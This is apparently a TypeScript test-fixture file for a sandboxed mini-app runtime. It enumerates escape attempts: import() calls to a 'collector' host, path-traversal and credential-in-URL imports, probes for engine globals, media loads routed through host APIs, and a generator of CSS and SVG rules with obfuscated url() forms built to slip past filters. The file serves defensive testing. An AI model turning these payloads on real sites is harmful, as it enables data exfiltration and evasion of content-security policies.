/**
 * More attempts, for what differs between the engines: import attributes, modules, globals of one engine, drawing, and
 * media that the host page loads. See `Attempt` for what is in scope; in addition, `more` is the URL of a chunk that is
 * an ES module.
 */
import type { Attempt } from "./attempts.ts";

/** Globals of one or two engines, that send, store, compile, measure or lead elsewhere. */
export const engineGlobals: readonly string[] = [
  // Chromium
  ..."webkitRequestFileSystem webkitRequestFileSystemSync webkitResolveLocalFileSystemURL TrustedTypePolicyFactory".split(
    " ",
  ),
  ..."trustedTypes CacheStorage FileSystemSyncAccessHandle PressureObserver StorageBucketManager scheduler".split(" "),
  ..."Observable Subscriber RTCDataChannel RTCEncodedVideoFrame SerialPort HID USB IdleDetector Notification".split(
    " ",
  ),
  // Firefox
  ..."InternalError dump uneval netscape Components Debugger mozRTCPeerConnection ImageBitmap FileSystemHandle".split(
    " ",
  ),
  ..."FontFaceSet Scheduler TaskController WorkerNavigator WorkerLocation PerformanceServerTiming".split(" "),
  // WebKit
  ..."$vm $262 webkitPostMessage webkitIndexedDB webkitURL ManagedMediaSource MediaSource MediaSourceHandle".split(" "),
  ..."RTCRtpScriptTransformer RTCTransformEvent WebKitMediaKeys FileSystemFileHandle print load".split(" "),
  // All
  ..."WebAssembly SharedArrayBuffer Atomics ShadowRealm AsyncContext DisposableStack SuppressedError reportError".split(
    " ",
  ),
  ..."structuredClone performance crypto Event EventTarget MessageEvent MessagePort ReadableStream".split(" "),
];

const imports: readonly Attempt[] = ["json", "css", "text", "bytes"].map((type) => ({
  name: `import() as ${type}`,
  code: `await import(collector + "/x.${type}", { with: { type: "${type}" } }); return true;`,
}));

const modules: readonly Attempt[] = [
  {
    name: "import() of a package file as JSON",
    code: `await import(base + "data/own.json", { with: { type: "json" } }); return true;`,
  },
  { name: "static imports of a chunk that is a module", code: `await import(more); return true;` },
  {
    name: "import() of a path that a browser shortens",
    code: `await import(chunk.replace("/_miniapp/", "/_miniapp/../data/") + "/../evil.js"); return true;`,
  },
  {
    name: "import() of the own chunk with credentials in the URL",
    code: `await import(chunk.replace("://", "://secret@")); return true;`,
  },
  {
    name: "import() of another port",
    code: `await import(chunk.replace(/:\\d+/, new RegExp(":\\\\d+").exec(collector)[0])); return true;`,
  },
  {
    name: "import() in a timer",
    code: `return new Promise((r, f) => setTimeout(() => import(collector + "/t.js").then(() => r(true), f)));`,
  },
  {
    name: "import() in a callback of the host",
    code: `return new Promise((r, f) => wx.getNetworkType({ complete: () => import(collector + "/c.js").then(() => r(true), f) }));`,
  },
];

/** Policies name the Service Worker's script where one answers, for Firefox. */
const serviceWorker: readonly Attempt[] = [
  "sw.js",
  "sw.js?secret",
  "%73w.js?secret",
  "sw%2Ejs?secret",
  "sw.js%?secret",
].map((path) => ({
  name: `import() of the Service Worker's script: ${path}`,
  code: `await import(base.split("/a/")[0] + "/${path}"); return true;`,
}));

const canvas: readonly Attempt[] = [
  {
    name: "a canvas's filter, font and fill with an address",
    code: `const c = wx.createOffscreenCanvas({ type: "2d", width: 20, height: 20 }); const d = c.getContext("2d");
      d.filter = "url(" + collector + "/filter.svg#f)"; d.font = "12px url(" + collector + "/font)"; d.fillStyle = "url(" + collector + "/fill)";
      d.fillRect(0, 0, 9, 9); d.fillText("x", 5, 5); d.getImageData(0, 0, 9, 9); await wait(200); return false;`,
  },
  {
    name: "picture of a canvas from elsewhere",
    code: `const i = wx.createOffscreenCanvas({ type: "2d", width: 9, height: 9 }).createImage();
      return new Promise((resolve, reject) => { i.onload = () => resolve(true); i.onerror = () => reject(new Error("no")); i.src = collector + "/picture.png"; });`,
  },
  {
    name: "a canvas's event target",
    code: `const c = wx.createOffscreenCanvas({ type: "2d", width: 9, height: 9 });
      const { prototype } = Object.getPrototypeOf(c.constructor);
      return Reflect.ownKeys(prototype).some((key) => key !== "constructor" && typeof key !== "symbol") || typeof c.addEventListener === "function";`,
  },
  {
    name: "a canvas's event",
    code: `const c = wx.createOffscreenCanvas({ type: "webgl", width: 9, height: 9 });
      const gl = c.getContext("webgl");
      if (!gl) return false;
      return new Promise((resolve) => { c.oncontextlost = (event) => resolve(event.target !== c || [event.view, event.source, event.ports].some((one) => one !== undefined));
        gl.getExtension("WEBGL_lose_context").loseContext(); setTimeout(() => resolve(false), 200); });`,
  },
  {
    name: "a canvas's blob, its stream, and their constructors",
    code: `const blob = await wx.createOffscreenCanvas({ type: "2d", width: 9, height: 9 }).convertToBlob();
      const all = [blob, blob.stream(), new blob.constructor(["x"])];
      return all.some((one) => ["createObjectURL", "fetch", "postMessage"].some((name) => name in one || name in one.constructor));`,
  },
  {
    name: "WebGPU's device",
    code: `const c = wx.createOffscreenCanvas({ type: "2d", width: 9, height: 9 }); const g = c.constructor; const d = new g(9, 9).getContext("webgpu");
      return d !== null && d.getConfiguration() !== null;`,
  },
];

/** The host page loads these itself, so no policy of the app's origin applies to them. */
const hostMedia: readonly Attempt[] = [
  ["previewImage", `wx.previewImage({ urls: [collector + "/previewImage"], fail() {} });`],
  ["previewMedia", `wx.previewMedia({ sources: [{ url: collector + "/previewMedia", type: "video" }], fail() {} });`],
  ["showToast", `wx.showToast({ title: "x", image: collector + "/toast", fail() {} });`],
  [
    "setTabBarItem",
    `wx.setTabBarItem({ index: 0, iconPath: collector + "/tab", selectedIconPath: collector + "/tab", fail() {} });`,
  ],
  [
    "createInnerAudioContext",
    `const a = wx.createInnerAudioContext(); a.onError(() => {}); a.src = collector + "/audio"; a.play();`,
  ],
  [
    "getBackgroundAudioManager",
    `const b = wx.getBackgroundAudioManager(); b.onError(() => {}); b.title = "x"; b.src = collector + "/background";`,
  ],
  [
    "createMediaAudioPlayer and WebAudio",
    `wx.createWebAudioContext().decodeAudioData(collector + "/decode", () => {}, () => {});`,
  ],
  [
    "loadFontFace",
    `wx.loadFontFace({ family: "f", global: true, source: 'url("' + collector + '/font.woff2")', fail() {} });`,
  ],
  ["getImageInfo", `wx.getImageInfo({ src: collector + "/info", fail() {} });`],
  ["getVideoInfo", `wx.getVideoInfo({ src: collector + "/video", fail() {} });`],
  [
    "setBackgroundColor",
    `wx.setBackgroundColor({ backgroundColor: "url(" + collector + "/color)", backgroundColorTop: "url(" + collector + "/top)", fail() {} });`,
  ],
  [
    "setNavigationBarColor",
    `wx.setNavigationBarColor({ frontColor: "#000000", backgroundColor: "url(" + collector + "/bar)", fail() {} });`,
  ],
  [
    "setTabBarStyle",
    `wx.setTabBarStyle({ backgroundColor: "url(" + collector + "/style)", color: "url(" + collector + "/color)", fail() {} });`,
  ],
  [
    "showActionSheet",
    `wx.showActionSheet({ itemList: ["<img src=" + collector + "/sheet>"], itemColor: "url(" + collector + "/item)", fail() {} });`,
  ],
  ["setNavigationBarTitle", `wx.setNavigationBarTitle({ title: "<img src=" + collector + "/title>", fail() {} });`],
].map(([name, code]) => ({
  name: `media that the host page loads: ${name}`,
  code: `try { ${code} } catch {} await wait(100); return false;`,
}));

const globals: readonly Attempt[] = [
  {
    name: "globals beyond the list",
    code: `const known = new Set(knownGlobals); const found = [];
      for (let o = globalThis; o && o !== Object.prototype; o = Object.getPrototypeOf(o))
        for (const key of Reflect.ownKeys(o)) if (!known.has(key) && Object(o[key]) === o[key]) found.push(String(key));
      if (found.length > 0) throw new Error("FOUND " + found);
      return false;`,
  },
  {
    name: "globals that are not listed as properties",
    code: `const found = engineGlobals.filter((name) => { try { return globalThis[name] !== undefined || Reflect.get(globalThis, name, {}) !== undefined; } catch { return true; } });
      if (found.length > 0) throw new Error("FOUND " + found);
      return false;`,
  },
  {
    name: "memory that is shared",
    code: `return [new ArrayBuffer(8), new Uint8Array(8).buffer, wx.base64ToArrayBuffer("AAAA")].some((one) => Object.prototype.toString.call(one) !== "[object ArrayBuffer]");`,
  },
  {
    name: "arguments and caller of the runtime's functions",
    code: `let found = false; const look = function look() { for (let f = look, i = 0; f && i < 20; i++) { try { if (i > 0 && !String(f).includes("look")) found = found || f.arguments; f = f.caller; } catch { break; } } };
      [1].forEach(look); wx.getNetworkType({ complete: look }); await wait(50); wx.nextTick(look); await wait(50);
      return Boolean(found) && [...found].some((one) => /Port|Event|Scope/.test(Object.prototype.toString.call(one)));`,
  },
  {
    name: "an error's stack in this engine",
    code: `const e = new Error("x"); return [e.fileName, e.sourceURL, e.stack].some((text) => typeof text === "string" && text.includes(host));`,
  },
];

export const moreAttempts: readonly Attempt[] = [
  ...engineGlobals.map((name) => ({
    name: `engine's global ${name}`,
    code: `return get(${JSON.stringify(name)}) !== undefined;`,
  })),
  ...imports,
  ...modules,
  ...serviceWorker,
  ...canvas,
  ...hostMedia,
  ...globals,
];

/** What the runtime leaves or defines; `src/runtime/worker/lock.ts` has the list of what it leaves. */
export const knownGlobals: readonly string[] = [
  ..."Object Array Boolean Number BigInt String Symbol Date RegExp Math JSON Reflect Proxy Promise Map Set".split(" "),
  ..."WeakMap WeakSet WeakRef FinalizationRegistry Iterator Intl globalThis Error AggregateError EvalError".split(" "),
  ..."RangeError ReferenceError SyntaxError TypeError URIError ArrayBuffer DataView Int8Array Uint8Array".split(" "),
  ..."Uint8ClampedArray Int16Array Uint16Array Int32Array Uint32Array Float16Array Float32Array Float64Array".split(
    " ",
  ),
  ..."BigInt64Array BigUint64Array parseInt parseFloat isNaN isFinite decodeURI decodeURIComponent encodeURI".split(
    " ",
  ),
  ..."encodeURIComponent escape unescape setTimeout clearTimeout setInterval clearInterval queueMicrotask".split(" "),
  ..."TextEncoder TextDecoder Function eval console wx global App Page Component Behavior getApp".split(" "),
  ..."getCurrentPages requirePlugin definePageEvents __wxConfig".split(" "),
];

export interface LeakingStyles {
  readonly sheet: string;
  /** A class for each rule. */
  readonly classes: readonly string[];
  /** Values of style attributes. */
  readonly inline: readonly string[];
}

/**
 * An SVG that loads addresses from its own style, in a `data:` URL. Firefox loads it as a document if a filter, a mask or
 * a clip path names a part of it.
 */
function loadingSvg(to: string, name: string): string {
  const u = (what: string): string => `${to}/svg/${name}-${what}`;
  const svg = `<?xml-stylesheet href="${u("xml-stylesheet.css")}"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml">
<style>@import "${u("import.css")}"; @font-face { font-family: q; src: url(${u("font")}) } * { font-family: q; background: url(${u("background")}) }</style>
<h:link rel="stylesheet" href="${u("link.css")}"/><filter id="f"><feImage href="${u("feImage")}"/></filter><mask id="f"><text>x</text></mask></svg>`;
  return `data:image/svg+xml,${encodeURIComponent(svg)}`;
}

/** Ways to write such an address that a search for `url(` or `#` could overlook. */
function hiddenUrls(to: string, name: string): readonly string[] {
  const url = loadingSvg(to, name);
  return [
    `url("${url}#f")`,
    `url(${url}#f)`,
    `URL('${url}#f')`,
    String.raw`\75rl("${url}#f")`,
    String.raw`u\r\l("${url}#f")`,
    String.raw`url("${url}\23 f")`,
    String.raw`url("${url}\#f")`,
    `url(\n  "${url}#f"\n)`,
    `url("\t${url}#f")`,
    `url("data:image/svg+xml,#a") ${`url("${url}#f")`}`,
    `src("${url}#f")`,
  ];
}

const properties = ["filter", "mask", "clip-path", "backdrop-filter", "-webkit-mask-image"];

/**
 * A stylesheet that loads an address in every way that CSS has, and a view per rule. All addresses are of `to`, so that
 * the page's policy must refuse them.
 */
export function leakingStyles(to: string): LeakingStyles {
  const u = (name: string): string => `url("${to}/css/${name}")`;
  const svg = (text: string, id: string): string =>
    `url("data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">${text}</svg>`)}${id}")`;
  const rules: readonly string[] = [
    `background-image: image-set(${u("image-set")} 1x)`,
    `background-image: -webkit-image-set(${u("webkit-image-set")} 1x)`,
    `background-image: cross-fade(${u("cross-fade")}, ${u("cross-fade-2")}, 50%)`,
    `background-image: -webkit-cross-fade(${u("webkit-cross-fade")}, ${u("webkit-cross-fade-2")}, 50%)`,
    `background-image: -webkit-canvas(x), ${u("after-canvas")}`,
    `background-image: -moz-element(#x), ${u("after-element")}`,
    `background-image: src("${to}/css/src")`,
    `background-image: image(${u("image")})`,
    `background-image: url("${to}/css/modifier" crossorigin(anonymous))`,
    `mask: ${u("mask.svg#m")}`,
    `-webkit-mask-image: ${u("webkit-mask")}`,
    `-webkit-mask-box-image: ${u("mask-box")} 10`,
    `border: 3px solid; border-image: ${u("border")} 10`,
    `display: list-item; list-style-image: ${u("list")}`,
    `filter: ${u("filter.svg#f")}`,
    `backdrop-filter: ${u("backdrop.svg#f")}`,
    `clip-path: ${u("clip.svg#c")}`,
    `float: left; shape-outside: ${u("shape")}`,
    `offset-path: ${u("offset.svg#p")}`,
    `-webkit-box-reflect: below 0 ${u("reflect")}`,
    `cursor: ${u("cursor")}, auto`,
    `content: ${u("content")}`,
    `fill: ${u("fill.svg#p")}; stroke: ${u("stroke.svg#p")}; marker: ${u("marker.svg#p")}`,
    `-moz-binding: ${u("binding.xml#b")}; behavior: ${u("behavior.htc")}`,
    `--x: ${u("variable")}; background-image: var(--x)`,
    `background-image: light-dark(${u("light")}, ${u("dark")})`,
    `animation: leak 1s infinite alternate`,
    `background-image: attr(data-x type(<url>), ${u("attr")})`,
    `background-image: if(style(--none: 1): ${u("if")}; else: ${u("else")})`,
    `filter: ${svg(`<filter id="f"><feImage href="${to}/css/feImage"/></filter>`, "#f")}`,
    `mask: ${svg(`<mask id="m"><image width="9" height="9" href="${to}/css/mask-image"/></mask>`, "#m")}`,
    `clip-path: ${svg(`<clipPath id="c"><use href="${to}/css/use.svg#u"/></clipPath>`, "#c")}`,
    `background-image: ${svg(`<style>@import "${to}/css/svg-import"; * { background: url(${to}/css/svg-style) }</style><image width="9" height="9" xlink:href="${to}/css/svg-image"/><script href="${to}/css/svg-script"/><foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="${to}/css/svg-img"/></foreignObject>`, "")}`,
    `background-image: url("/data/evil.svg")`,
    `filter: url("/data/evil.svg#f")`,
    `mask: url("/data/evil.svg#m")`,
    ...properties.flatMap((name) => hiddenUrls(to, `sheet-${name}`).map((url) => `${name}: ${url}`)),
    ...hiddenUrls(to, "sheet-variable").map((url) => `--y: ${url}; filter: var(--y)`),
    ...hiddenUrls(to, "sheet-string").map((url) => `content: "url('"; font-family: 'url("'; filter: ${url}`),
    ...hiddenUrls(to, "sheet-comment").map((url) => `/* url(" */ filter: ${url}`),
    `font-family: remote-1`,
    `font-family: remote-2`,
    `font-family: remote-3`,
  ];
  const classes = rules.map((_, index) => `leak-${index}`);
  const pseudo = [
    "::before",
    "::after",
    "::first-line",
    "::first-letter",
    "::marker",
    "::selection",
    "::-webkit-scrollbar",
  ];
  return {
    classes,
    inline: [
      ...properties.flatMap((name) => hiddenUrls(to, `inline-${name}`).map((url) => `${name}: ${url}`)),
      ...hiddenUrls(to, "inline-variable").map((url) => `--y: ${url}; filter: var(--y)`),
      ...hiddenUrls(to, "inline-string").map((url) => `font-family: 'url("'; filter: ${url}`),
      ...hiddenUrls(to, "inline-comment").map((url) => `/* url(" */ filter: ${url}`),
    ],
    sheet: [
      `@import "${to}/css/import"; @import url("${to}/css/import-2") layer(a) supports(color: red) screen;`,
      `@import "data:text/css,@import '${to}/css/data-import'";`,
      `@namespace leak ${u("namespace")};`,
      `@font-face { font-family: remote-1; src: local("none"), ${u("font")} format("woff2"); }`,
      `@font-face { font-family: remote-2; src: ${u("font-tech")} format("opentype") tech(variations), ${u("font.svg#f")} format("svg"); }`,
      `@font-face { font-family: remote-3; src: ${svg(`<font-face><font-face-src><font-face-uri href="${to}/css/font-face-uri"/></font-face-src></font-face>`, "#f")}; unicode-range: U+0-FFFF; }`,
      `@counter-style leak { system: cyclic; symbols: ${u("symbols")}; }`,
      `@property --leak { syntax: "<image>"; inherits: false; initial-value: ${u("property")}; }`,
      `@keyframes leak { from { background-image: ${u("keyframe")} } to { background-image: ${u("keyframe-2")} } }`,
      `@document url("${to}") { page { background: ${u("document")} } } @-moz-document url-prefix() { page { background: ${u("moz-document")} } }`,
      `@page { background: ${u("page")} } @media print { page { background: ${u("print")} } }`,
      ...rules.map((rule, index) => `.leak-${index} { width: 30px; height: 30px; ${rule} }`),
      ...pseudo.map(
        (name, index) => `page${name} { content: ${u(`pseudo-${index}`)}; background: ${u(`pseudo-back-${index}`)} }`,
      ),
    ].join("\n"),
  };
}
